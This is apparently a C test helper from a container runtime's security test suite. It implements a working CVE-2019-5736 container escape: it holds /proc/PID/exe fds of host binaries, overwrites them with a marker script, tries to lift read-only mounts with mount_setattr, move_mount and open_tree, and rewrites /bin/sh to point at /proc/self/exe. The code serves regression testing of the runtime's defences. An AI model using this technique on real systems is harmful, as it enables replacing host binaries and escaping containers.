/* static */
/* sec-exe: the CVE-2019-5736 attacker of tests/security/cve-2019-5736.bats,
 * run as a container's init.
 *
 *   sec-exe MARKER [shebang]
 *
 * It scans /proc for processes whose executable is none of the container's
 * own files (vessel's exec child, a neighbour's init waiting in "created" in
 * a shared pid namespace, vessel run by "#!/proc/self/exe") and holds an
 * O_PATH fd to each one's /proc/PID/exe.  Once that process has left the file
 * and no other runs it (the kernel's ETXTBSY ends), it reopens it for
 * writing through the fd and replaces it with "#!/bin/sh\necho MARKER": the next run of
 * the host's binary would print MARKER.  When the reopen fails for another
 * reason it tries to make the file writable: clear MOUNT_ATTR_RDONLY on its
 * mount, attach that mount in the container (move_mount) and clear it there,
 * clone it (open_tree) and clear it on the clone.
 *
 * With "shebang" it first makes /bin/sh the script "#!/proc/self/exe", so
 * that `vessel exec CTR /bin/sh` executes vessel's own binary as the
 * container's process (the exploit's classic form).
 *
 * Report, in /sec-exe.result (the test reads it from the host): one
 * "caught PID CMDLINE" line per process caught, then the outcome:
 * "overwritten", "blocked STEP: ERROR" (every way tried failed) or "timeout"
 * (after 300 s: slow VMs).  Then it waits to be killed. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include <linux/mount.h>

#define MAX_HELD 32
#define MAX_PIDS 4096

static FILE *report;
static const char *marker;
static struct stat own[2]; /* files of the container: never attacked */
static struct {
	int fd, pid;
} held[MAX_HELD];
static int n_held;
static bool tried[MAX_PIDS];

static void say(const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	vfprintf(report, fmt, ap);
	va_end(ap);
	fputc('\n', report);
	fflush(report);
}

static bool is_own(const struct stat *st)
{
	for (size_t i = 0; i < sizeof(own) / sizeof(own[0]); i++)
		if (st->st_dev == own[i].st_dev && st->st_ino == own[i].st_ino)
			return true;
	return false;
}

static void cmdline(int pid, char *buf, size_t size)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd >= 0 ? read(fd, buf, size - 1) : -1;
	if (fd >= 0)
		close(fd);
	if (n < 0)
		n = 0;
	for (ssize_t i = 0; i < n; i++)
		if (buf[i] == '\0')
			buf[i] = ' ';
	buf[n] = '\0';
}

/* Hold /proc/PID/exe of every new process running a foreign file. */
static void catch_new(void)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	while (d && (e = readdir(d))) {
		int pid = atoi(e->d_name);
		if (pid <= 1 || pid >= MAX_PIDS || pid == getpid() || tried[pid] ||
		    n_held == MAX_HELD)
			continue;
		char path[64], cmd[256];
		snprintf(path, sizeof(path), "/proc/%d/exe", pid);
		int fd = open(path, O_PATH | O_CLOEXEC);
		struct stat st;
		if (fd < 0 || fstat(fd, &st) < 0 || is_own(&st)) {
			if (fd >= 0)
				close(fd);
			tried[pid] = fd >= 0; /* EACCES now may pass later */
			continue;
		}
		tried[pid] = true;
		held[n_held].fd = fd;
		held[n_held++].pid = pid;
		cmdline(pid, cmd, sizeof(cmd));
		say("caught %d %s", pid, cmd);
	}
	if (d)
		closedir(d);
}

static int overwrite(int fd)
{
	char script[256];
	int n = snprintf(script, sizeof(script), "#!/bin/sh\necho %s\n", marker);
	if (ftruncate(fd, 0) < 0)
		return -1;
	return write(fd, script, (size_t)n) == n ? 0 : -1;
}

/* Whether pid still runs the file behind fd (the attack waits for that to
 * end: a real attacker would keep trying anyway). */
static bool still_runs(int pid, int fd)
{
	char path[64];
	struct stat a, b;
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	return stat(path, &a) == 0 && fstat(fd, &b) == 0 && a.st_dev == b.st_dev &&
	       a.st_ino == b.st_ino;
}

static int reopen_write(int fd)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	return open(path, O_WRONLY | O_CLOEXEC);
}

/* The file is on a read-only mount: try to lift that. */
static int unwrap(int fd, char *why, size_t size)
{
	struct mount_attr rw = {.attr_clr = MOUNT_ATTR_RDONLY};
	if (syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &rw, sizeof(rw)) == 0)
		return reopen_write(fd);
	int n = snprintf(why, size, "; mount_setattr rw: %s", strerror(errno));
	/* Attached in our mount namespace, its flags would be ours to change. */
	close(open("/sec-exe.mnt", O_WRONLY | O_CREAT | O_CLOEXEC, 0600));
	if (syscall(SYS_move_mount, fd, "", AT_FDCWD, "/sec-exe.mnt", MOVE_MOUNT_F_EMPTY_PATH) ==
	    0) {
		if (syscall(SYS_mount_setattr, AT_FDCWD, "/sec-exe.mnt", 0, &rw, sizeof(rw)) == 0)
			return open("/sec-exe.mnt", O_WRONLY | O_CLOEXEC);
		n += snprintf(why + n, size - n, "; attached, but rw: %s", strerror(errno));
	} else {
		n += snprintf(why + n, size - n, "; move_mount: %s", strerror(errno));
	}
	int clone = syscall(SYS_open_tree, fd, "", AT_EMPTY_PATH | OPEN_TREE_CLONE);
	if (clone < 0) {
		snprintf(why + n, size - n, "; open_tree clone: %s", strerror(errno));
		return -1;
	}
	if (syscall(SYS_mount_setattr, clone, "", AT_EMPTY_PATH, &rw, sizeof(rw)) == 0)
		return reopen_write(clone);
	snprintf(why + n, size - n, "; clone rw: %s", strerror(errno));
	return -1;
}

/* 1 = outcome reported, 0 = still busy (ETXTBSY: a process runs it). */
static int attack(int fd)
{
	int w = reopen_write(fd);
	if (w < 0 && errno == ETXTBSY)
		return 0;
	char why[512] = "";
	if (w < 0) {
		int open_errno = errno;
		w = unwrap(fd, why, sizeof(why));
		if (w < 0) {
			say("blocked open: %s%s", strerror(open_errno), why);
			return 1;
		}
	}
	if (overwrite(w) < 0)
		say("blocked write: %s", strerror(errno));
	else
		say("overwritten");
	close(w);
	return 1;
}

static void shebang_sh(void)
{
	unlink("/bin/sh");
	int fd = open("/bin/sh", O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
	if (fd < 0 || write(fd, "#!/proc/self/exe\n", 17) != 17)
		say("shebang: %s", strerror(errno));
	if (fd >= 0)
		close(fd);
}

int main(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	marker = argv[1];
	report = fopen("/sec-exe.result", "w");
	if (!report || stat("/proc/self/exe", &own[0]) < 0 || stat("/bin/busybox", &own[1]) < 0)
		return 2;
	if (argc > 2 && strcmp(argv[2], "shebang") == 0)
		shebang_sh();
	say("ready");
	struct timespec nap = {0, 200 * 1000};
	bool done = false;
	for (time_t end = time(NULL) + 300; !done && time(NULL) < end; nanosleep(&nap, NULL)) {
		catch_new();
		for (int i = 0; !done && i < n_held; i++)
			done = !still_runs(held[i].pid, held[i].fd) && attack(held[i].fd);
	}
	if (!done)
		say("timeout");
	/* Stays, so that the container's other processes (an exec still
	 * finishing) are not killed with its pid namespace. */
	for (;;)
		pause();
}
